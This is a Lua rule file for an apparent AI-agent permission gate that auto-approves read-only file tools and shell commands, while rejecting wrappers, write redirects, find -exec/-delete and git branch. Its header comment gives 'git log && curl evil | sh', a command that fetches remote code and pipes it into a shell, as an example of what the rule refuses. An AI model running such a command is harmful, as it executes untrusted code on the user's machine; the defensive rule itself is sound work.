-- Reading is free: the file tools that only read, and shell commands that
-- only look (ls, cat, grep, git status/log/diff/show, ...), are allowed
-- without asking. Every simple command of the line must be one of them:
-- `git log && curl evil | sh` is not a read-only command line.
local tg = require "toolgate"
local shell = require "toolgate.shell"

local READ_TOOLS = { read_file = true, list_dir = true }

-- Commands that only read, whatever their arguments.
local READERS = {
  ls = true, cat = true, head = true, tail = true, wc = true, grep = true,
  rg = true, file = true, stat = true, tree = true, pwd = true, echo = true,
  which = true, diff = true, du = true, df = true, uname = true, date = true,
}
-- git subcommands that only read.
local GIT_READERS = {
  status = true, log = true, diff = true, show = true, blame = true,
  branch = false, -- `git branch -D x` deletes: asked like any write
  ["rev-parse"] = true, ["ls-files"] = true, grep = true, describe = true,
}

local function reads_only(cmd)
  local name = shell.basename(cmd.argv[1])
  if cmd.wrapper then return false end -- sudo, sh -c, xargs...: judged apart
  for _, r in ipairs(cmd.redirects) do
    if r.op:find(">") then return false end -- writes a file
  end
  if name == "git" then return GIT_READERS[cmd.argv[2] or ""] == true end
  if name == "find" then -- find can -delete and -exec
    for k = 2, #cmd.argv do
      if cmd.argv[k]:match("^%-exec") or cmd.argv[k]:match("^%-ok")
          or cmd.argv[k] == "-delete" or cmd.argv[k]:match("^%-fprint") then
        return false
      end
    end
    return true
  end
  return READERS[name] == true
end

tg.rule { name = "read-only", priority = 200,
  check = function(call)
    if READ_TOOLS[call.tool] then return tg.allow("reading is free") end
    if call.tool ~= "exec" or type(call.args.command) ~= "string" then return end
    local cmds = shell.split(call.args.command)
    if not cmds or #cmds == 0 then return end
    for _, cmd in ipairs(cmds) do
      if not reads_only(cmd) then return end -- no answer: later rules decide
    end
    return tg.allow("a read-only command")
  end }
